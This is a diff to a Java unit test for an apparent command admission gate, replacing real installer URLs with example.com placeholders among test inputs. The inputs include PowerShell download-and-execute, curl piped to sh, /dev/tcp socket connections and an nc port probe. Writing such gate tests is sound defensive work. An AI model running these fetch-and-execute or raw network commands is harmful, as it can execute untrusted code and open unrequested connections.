@@ -81,8 +81,8 @@ class AdmissionGateTest {
   @ValueSource(
       strings = {
         "iex ((New-Object"
-            + " System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
-        "curl -fsSL https://get.docker.com | sh",
+            + " System.Net.WebClient).DownloadString('https://packages.example.com/install.ps1'))",
+        "curl -fsSL https://get.example.com | sh",
         "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'",
         "exec 3<>/dev/tcp/www.example.com/80",
         "nc -zv localhost 8080",
